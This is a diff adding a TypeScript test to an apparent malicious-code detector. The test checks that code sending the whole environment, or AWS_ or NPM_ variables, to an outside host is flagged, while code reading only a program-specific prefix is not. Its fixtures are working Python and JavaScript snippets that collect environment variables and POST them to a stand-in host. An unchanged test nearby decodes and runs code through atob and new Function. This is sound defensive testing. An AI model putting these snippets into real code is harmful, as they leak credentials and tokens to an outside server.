@@ -66,6 +66,18 @@ test('a short name of packed code ends with its block', () => {
   ]);
 });
 
+test("variables that are the program's own by their names are not the environment", () => {
+  const sent = (prefix: string): string =>
+    `def own():\n    found = {}\n    for key, value in os.environ.items():\n        if key.startswith('${prefix}'):\n            found[key] = value\n    return found\n\ndef tell():\n    requests.post('https://t.example.com', json={'env': own()})\n`;
+  assert.deepEqual(python(sent('WIDGETS_')), []);
+  assert.deepEqual(python(sent('AWS_')), ['environment-sent']);
+  assert.deepEqual(python(sent('')), ['environment-sent']);
+  const picked = (name: string): string =>
+    `const own = Object.entries(process.env).filter(([key]) => key.startsWith('${name}'));\nfetch('https://t.example.com', { method: 'POST', body: JSON.stringify(own) });\n`;
+  assert.deepEqual(script(picked('WIDGETS_')), []);
+  assert.deepEqual(script(picked('NPM_')), ['environment-sent']);
+});
+
 test('in a long file fewer steps are taken', () => {
   const chain = Array.from({ length: 6 }, (_, index) => `const step${index + 1} = String(step${index});\n`).join('');
   const text = `const step0 = atob(blob);\n${chain}new Function(step6)();\n`;
